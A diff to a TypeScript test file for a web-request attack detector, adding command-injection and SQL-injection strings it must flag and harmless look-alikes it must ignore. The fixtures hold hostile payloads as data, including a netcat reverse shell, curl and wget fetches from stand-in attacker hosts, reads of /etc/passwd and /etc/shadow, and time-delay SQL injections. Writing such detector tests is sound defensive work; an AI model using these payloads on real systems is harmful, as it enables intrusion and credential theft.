@@ -93,6 +93,12 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['a brace list after a separator', 'rce', 'q', ';{curl,http://x.example/a.sh};'],
   ['a glob for a binary', 'rce', 'q', 'x;/bin/ca? /et*/passwd'],
   ['a bracket glob in a binary path', 'rce', 'q', '/usr/bin/[u]name -a'],
+  // A probe given only options is the whole command line, with no shell character at all.
+  ['a probe with options only', 'rce', 'q', 'uname -n -s'],
+  ['a listing with options only', 'rce', 'form', 'ls -la'],
+  ['a network probe with a long option', 'rce', 'q', 'netstat --listening'],
+  ['a word-command run by a wrapper that is no word', 'rce', 'form', 'nohup who'],
+  ['a program given an option first', 'rce', 'form', 'cpulimit -l 100 -f whoami'],
   ['variables assembled into a command', 'rce', 'q', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b'],
   ['ANSI-C quoted command in a variable', 'rce', 'q', ";CMD=$'\\x69\\x64';$CMD"],
   ['an unset variable glued inside words', 'rce', 'ref', 'foo;cat$u /etc$u/passwd'],
@@ -127,6 +133,9 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['ORDER BY a delay', 'sqli', 'q', 'ORDER BY SLEEP(5)--'],
   ['an always-false OR', 'sqli', 'q', ' OR 1=0'],
   ['quotes without spaces', 'sqli', 'q', "'OR'a'='a"],
+  // A closed string, an operator and a few operands, then a comment that cuts the query.
+  ['a collation after a closed string', 'sqli', 'form', "user'collate nocase--"],
+  ['OR and a name test before a comment', 'sqli', 'q', "z'or email notnull--"],
   ['waitfor after a closed parenthesis', 'sqli', 'q', "1));waitfor delay '0:0:5'--"],
   ['waitfor after a double quote', 'sqli', 'q', "1\";waitfor delay '0:0:5'--"],
   ['a subquery selecting CASE in parentheses', 'sqli', 'q', "1')))(select (case when (5451=5451) then 1 else 0 end) from dual)"],
@@ -142,8 +151,16 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
 
 const BENIGN: Array<[string, Where, string]> = [
   ['a quoted search term', 'q', '"ping"'],
+  // Word-commands that are English (`find`, `top`, `cat`) with an option-like word stay text.
+  ['a word-command with a dash word', 'q', 'top -rated'],
+  ['a search with a minus operator', 'q', 'cat -dog'],
+  ['a probe name with a number option', 'q', 'ls -10 items'],
+  ['an English wrapper before a word-command', 'q', 'nice cat pictures'],
+  ['a phrase starting with time', 'form', 'time cat'],
   ['a name with an apostrophe', 'q', "O'Neil's shop"],
   ['a sentence with a pipe', 'q', 'Tom | Jerry cat lovers'],
+  ['an apostrophe and a dash at the end', 'form', "O'Brien and sons --"],
+  ['an apostrophe in a phrase with a dash', 'q', "it's a cat -- or not"],
   ['parentheses in documentation', 'form', "- it's full reference (id)"],
   ['a method in a heading', 'form', '#### ast.isProblematicIfStatement(node)'],
   ['a Markdown link to a package', 'form', '[tar](http://npm.im/tar) and [node-tar](http://npm.im/tar)'],
@@ -175,3 +192,37 @@ for (const [name, cls, where, v] of ATTACKS) {
 for (const [name, where, v] of BENIGN) {
   test(`benign: ${name}`, () => assert.deepEqual(classes(where, v), [], `${where} ${JSON.stringify(v)}`));
 }
+
+/**
+ * A query string or form body split on `&` can cut a command in two (`?1+1&&curl host`): the
+ * whole text is read for shell as well, when an empty pair or a later name holding a space shows
+ * the split may have cut one. Ordinary query strings (flags, empty names, `&&` typos) stay quiet.
+ */
+const RAW_QUERIES: Array<[string, AttackClass[]]> = [
+  ['/?1+1&&curl+attacker.example', ['rce']],
+  ['/ping?host=shop.example&&whoami', ['rce']],
+  ['/ping?host=shop.example&&nc%20-e%20/bin/sh%2010.0.0.1%204444', ['rce']],
+  ['/ping?host=x&wget+attacker.example/x.sh', ['rce']],
+  // Benign look-alikes: a doubled `&`, flags without `=`, a leading `&`, a name with a space.
+  ['/search?q=shoes&&page=2', []],
+  ['/list?sort=name&desc&page=2', []],
+  ['/list?&a=1&b=2', []],
+  ['/search?q=1&x&Black+Friday+deals', []],
+  ['/api?a=1&&b=2&&c=3', []],
+];
+
+for (const [target, expected] of RAW_QUERIES) {
+  test(`raw query ${JSON.stringify(target)} -> ${expected.join(',') || 'nothing'}`, () =>
+    assert.deepEqual(detector.detect(tx({ target }))?.hits.map((h) => h.class) ?? [], expected));
+}
+
+test('raw form body: `&&` between commands is read as one shell value', () => {
+  const form = (body: string) =>
+    detector
+      .detect(
+        tx({ method: 'POST', target: '/ping', headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']], body }),
+      )
+      ?.hits.map((h) => h.class) ?? [];
+  assert.deepEqual(form('ip=shop.example&&cat+/etc/shadow'), ['rce']);
+  assert.deepEqual(form('name=Tom&&Jerry=1'), []);
+});
